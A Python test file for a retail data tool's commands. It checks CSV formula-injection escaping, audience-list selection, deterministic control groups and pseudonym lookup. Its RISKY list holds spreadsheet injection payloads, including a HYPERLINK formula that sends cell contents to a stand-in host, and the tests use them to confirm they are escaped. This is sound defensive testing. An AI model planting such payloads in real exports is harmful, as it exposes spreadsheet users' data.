"""CSV that people open in a spreadsheet, and the lists of whom to write to."""

import csv
import io
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import click
import pyarrow as pa
import pytest
from click.testing import CliRunner, Result
from deltalake import write_deltalake

from retail_assets import audience_command, sql_command, table_commands
from retail_assets.audience_command import held_out, own_ids
from retail_assets.lakehouse.pseudonyms import key_of, pseudonym
from retail_assets.settings import Settings

KEY = "k" * 32
RISKY = ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
"""As in the trap of formulas: texts that a spreadsheet runs."""


@pytest.fixture(scope="module")
def lakehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("audiences") / "lakehouse"
    lines = {"description": [*RISKY, "MUG"], "line_total": [-1.5] * 7}
    write_deltalake(str(place / "online_retail" / "clean_transactions"), pa.table(lines))
    months = [date(2011, 5, 1)] + [date(2011, 6, 1)] * 11
    actions = {
        "action": ["win_back"] * 11 + ["country"],
        "rank": pa.array([1, *range(1, 11), 1], pa.int32()),
        "customer_id": ["gone by now", *(f"c{n}" for n in range(1, 11)), None],
        "product": pa.array([None] * 12, pa.string()),
        "country": ["EIRE"] * 12,
        "worth": pa.array([Decimal(100 - n) for n in range(12)], pa.decimal128(18, 3)),
        "reason": ["=1+1", *["bought once"] * 11],
        "as_of_date": months,
        "snapshot_month": months,
    }
    write_deltalake(str(place / "online_retail" / "actions"), pa.table(actions), partition_by=["snapshot_month"])
    return place


def asked(command: click.Command, lakehouse: Path, *arguments: str, key: str | None = None) -> Result:
    environment = {"RETAIL_LAKEHOUSE": str(lakehouse), "RETAIL_LANDING": str(lakehouse.parent / "landing")}
    settings = Settings.read(environment | ({"RETAIL_PSEUDONYM_KEY": key} if key else {}))
    return CliRunner().invoke(command, arguments, obj=settings)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


QUERY = "SELECT description, line_total FROM online_retail.clean_transactions"
COMMANDS: list[tuple[click.Command, Sequence[str]]] = [
    (table_commands.read, ["online_retail.clean_transactions"]),
    (sql_command.sql, [QUERY, "--format", "csv"]),
]


@pytest.mark.parametrize(("command", "arguments"), COMMANDS, ids=["read", "sql"])
def test_texts_that_a_spreadsheet_would_run_are_escaped_unless_they_are_wanted_raw(
    lakehouse: Path, command: click.Command, arguments: Sequence[str]
):
    shown = rows_of(asked(command, lakehouse, *arguments).stdout)
    assert [row["description"] for row in shown] == [*("'" + text for text in RISKY), "MUG"]
    assert {row["line_total"] for row in shown} == {"-1.5"}  # a number is no formula
    raw = rows_of(asked(command, lakehouse, *arguments, "--raw").stdout)
    assert [row["description"] for row in raw] == [*RISKY, "MUG"]


def test_a_list_is_that_of_the_newest_month_or_of_the_one_that_is_named(lakehouse: Path):
    listed = rows_of(asked(audience_command.audience, lakehouse, "win-back", "--limit", "2").stdout)
    assert [(row["customer_id"], row["worth"], row["reason"]) for row in listed] == [
        ("c1", "99.000", "bought once"),
        ("c2", "98.000", "bought once"),
    ]
    assert "product" not in listed[0]
    (earlier,) = rows_of(asked(audience_command.audience, lakehouse, "win_back", "--month", "2011-05").stdout)
    assert (earlier["customer_id"], earlier["reason"]) == ("gone by now", "'=1+1")


def test_without_a_name_the_lists_are_told_and_a_wrong_name_is_corrected(lakehouse: Path):
    assert asked(audience_command.audience, lakehouse).stdout.splitlines() == [
        "win_back             10 named, worth 945",
        "country               1 named, worth 89",
    ]
    wrong = asked(audience_command.audience, lakehouse, "winback")
    assert wrong.exit_code == 2
    assert "no list winback. Did you mean win_back? There are: win_back, country." in wrong.output


def test_a_control_group_is_drawn_by_chance_and_always_the_same(lakehouse: Path, tmp_path: Path):
    options = ["win_back", "--hold-out", "0.3", "--campaign", "spring", "--contacted", "2011-07-01"]
    first = asked(audience_command.audience, lakehouse, *options).stdout
    assert asked(audience_command.audience, lakehouse, *options, "-o", str(tmp_path / "list.csv")).exit_code == 0
    assert (tmp_path / "list.csv").read_text(encoding="utf-8-sig") == first
    rows = rows_of(first)
    assert [row["group"] for row in rows].count("control") == 3
    assert {(row["campaign"], row["contacted_on"]) for row in rows} == {("spring", "2011-07-01")}
    customers = [f"c{n}" for n in range(1000)]
    drawn = held_out(customers, 0.2, "spring")
    assert drawn == held_out(customers[::-1], 0.2, "spring")
    assert len(drawn) == 200
    assert 20 < len(drawn & held_out(customers, 0.2, "summer")) < 70  # another draw, not the same customers
    assert 60 < len(drawn & set(customers[:500])) < 140  # of all of the list, not of its end
    assert asked(audience_command.audience, lakehouse, "country", "--hold-out", "0.5").exit_code == 2


def test_pseudonyms_lead_back_to_the_shops_own_ids_by_the_key_alone(spark, tmp_path: Path):
    own = key_of(KEY, "online_retail")
    frame = spark.createDataFrame([("13085",)], "customer_id string")
    (made,) = frame.select(pseudonym(own, frame["customer_id"]).alias("p")).collect()
    assert own_ids(own, ["13085", "17850"])[made.p] == "13085"
    place = tmp_path / "lakehouse" / "online_retail"
    row: dict[str, list[Any]] = {"action": ["win_back"], "rank": [1], "customer_id": [made.p], "reason": ["so"]}
    more = {"product": pa.array([None], pa.string()), "country": ["EIRE"], "worth": [1.0]}
    days = {"as_of_date": [date(2011, 6, 1)], "snapshot_month": [date(2011, 5, 1)]}
    write_deltalake(str(place / "actions"), pa.table(row | more | days), partition_by=["snapshot_month"])
    write_deltalake(str(place / "customer_month_activity"), pa.table({"customer_id": ["13085", "17850"]}))
    told = asked(audience_command.audience, place.parent, "win_back", key=KEY)
    assert rows_of(told.stdout)[0]["customer_id"] == made.p
    assert "--own-ids gives the shop's own" in told.stderr
    found = asked(audience_command.audience, place.parent, "win_back", "--own-ids", key=KEY)
    assert rows_of(found.stdout)[0]["customer_id"] == "13085"
    other = asked(audience_command.audience, place.parent, "win_back", "--own-ids", key="o" * 32)
    assert "1 of 1 customers are nobody's" in other.stderr
    assert asked(audience_command.audience, place.parent, "win_back", "--own-ids").exit_code == 2
